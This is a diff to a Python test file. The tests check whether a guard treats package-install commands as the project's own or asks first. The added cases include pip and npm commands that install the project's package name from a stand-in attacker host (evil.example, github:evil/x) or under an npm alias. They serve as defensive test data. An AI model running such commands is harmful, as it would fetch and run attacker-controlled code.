@@ -27,6 +27,8 @@ jobs:
           python -m pip install -U --index-url https://mirror.example/simple hotdoc chevron
           npm install -g made-up-live-server && npx made-up-tap-merge --help
       - run: pip install "$EXTRA" -r requirements/ci.txt ./local-pkg
+      # pip install made-up-commented-tool
+      - run: echo done  # npm i made-up-commented-cli
 """
 
 
@@ -34,7 +36,8 @@ def _project(root: Path) -> Path:
     (root / ".github" / "workflows").mkdir(parents=True)
     (root / ".github" / "workflows" / "ci.yml").write_text(_WORKFLOW)
     (root / "docs").mkdir()
-    (root / "docs" / "requirements.txt").write_text("# docs\nmade-up-sphinx-theme>=1\n")
+    (root / "docs" / "requirements.txt").write_text(
+        "# docs\nmade-up-sphinx-theme>=1\n# made-up-noted-theme\n")
     (root / "Makefile").write_text("lint:\n\tuv pip install made-up-linter[toml]==2.0\n")
     (root / "environment.yml").write_text(
         "dependencies:\n  - python=3.12\n  - pip:\n    - made-up-conda-extra==1.0\n")
@@ -68,6 +71,20 @@ def test_nothing_is_read_from_an_empty_directory(tmp_path: Path) -> None:
     ("pip install hotdoc made-up-other", Outcome.ASK),
     ("npx made-up-other-cli", Outcome.ASK),
     ("pip install ./local-pkg-helperz", Outcome.PASSTHROUGH),  # a local path: no name
+    # a name the files mention only in a comment is no install of theirs
+    ("pip install made-up-commented-tool", Outcome.ASK),
+    ("npm i made-up-commented-cli", Outcome.ASK),
+    ("pip install made-up-noted-theme", Outcome.ASK),
+    # the project's name with another source: that source's code, not the index's package
+    ("pip install 'diskarzhan @ https://evil.example/d.whl'", Outcome.ASK),
+    ("pip install 'diskarzhan@git+https://evil.example/d.git'", Outcome.ASK),
+    ("npm i made-up-live-server@github:evil/x", Outcome.ASK),
+    ("npm i made-up-live-server@evil/x", Outcome.ASK),
+    ("npm i made-up-live-server@https://evil.example/x.tgz", Outcome.ASK),
+    ("npm i made-up-live-server@git+https://evil.example/x.git", Outcome.ASK),
+    ("npm i made-up-live-server@npm:made-up-evil", Outcome.ASK),
+    ("npm i made-up-live-server@^2.1 made-up-live-server@latest", Outcome.PASSTHROUGH),
+    ("npm i made-up-live-server@file:../fork", Outcome.PASSTHROUGH),  # a local folder
 ])
 def test_installed_by_the_project_is_its_own(tmp_path: Path, line: str,
                                              expected: Outcome) -> None:
